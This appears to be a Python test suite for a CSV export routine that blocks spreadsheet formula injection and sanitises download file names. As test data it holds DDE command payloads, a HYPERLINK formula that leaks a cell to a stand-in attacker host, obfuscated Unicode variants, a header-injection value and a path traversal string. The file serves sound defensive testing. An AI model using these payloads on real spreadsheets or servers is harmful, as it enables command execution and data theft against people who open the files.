"""CSV for spreadsheets: what could become a formula does not, and what was written comes back."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from coderunner_core import spreadsheet

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \u200b \u200b=1+1",
    "\u2066=1+1",
    "\u00ad\x07=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t＝1+1",
    "\r＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "\u22121",
    "％1",
    "|calc",
    "%0A=1",
    "-1",
    '=1","=2',
]


def is_formula(cell: str) -> bool:
    """Whether what is seen first of a cell begins a formula."""
    seen = next((one for one in cell if unicodedata.category(one)[0] not in "CZ"), "")
    return seen in set("=+-@|%＝＋－＠％﹦﹢﹣﹫\u2212")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_becomes_a_formula(attack: str) -> None:
    """Each begins with an apostrophe when it is read back, is one cell, and says what it said."""
    [[cell, after]] = csv.reader(io.StringIO(spreadsheet.line([attack, "next"]), newline=""))
    assert (cell[0], cell.replace("'", ""), after) == ("'", attack.replace("'", ""), "next")


@pytest.mark.parametrize("text", ["Ada", "O'Brien", "Anna-Lena", "7b = best", 'says "hi"', "a,b;c", "Øystein", ""])
def test_other_text_stays_as_it_is(text: str) -> None:
    """Names with signs in the middle are names."""
    assert list(csv.reader(io.StringIO(spreadsheet.line([text])))) == [[text]]


def test_numbers_stay_numbers() -> None:
    """Without quotes, so that a spreadsheet can add them up; nothing is an empty cell."""
    assert spreadsheet.line(["Ada", 100, -1, None]) == '"Ada",100,-1,""\r\n'


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ("7b", "7b.csv"),
        ('7b"\r\nSet-Cookie: x=1', "7b-Set-Cookie-x-1.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("Класс 7", "7.csv"),
        ("", "report.csv"),
        ("x" * 500, "x" * 60 + ".csv"),
    ],
)
def test_a_file_name_is_only_a_name(words: str, name: str) -> None:
    """No path, no second header."""
    assert spreadsheet.file_name(words, "csv") == name


@pytest.mark.parametrize("separator", [";", "\t", "\r", "\n", "\r\n"])
@pytest.mark.parametrize("attack", ["=cmd|'/C calc'!A0", " =1+1", "\u200b＝1+1", "＠SUM(A1)"])
def test_no_cell_begins_within_a_cell(separator: str, attack: str) -> None:
    """Where something else than a comma divides, the quotes of what came before do not count."""
    cells = spreadsheet.line(["Ada", f"x{separator}{attack}"]).rstrip().split(separator)
    assert [cell for cell in cells if is_formula(cell)] == []
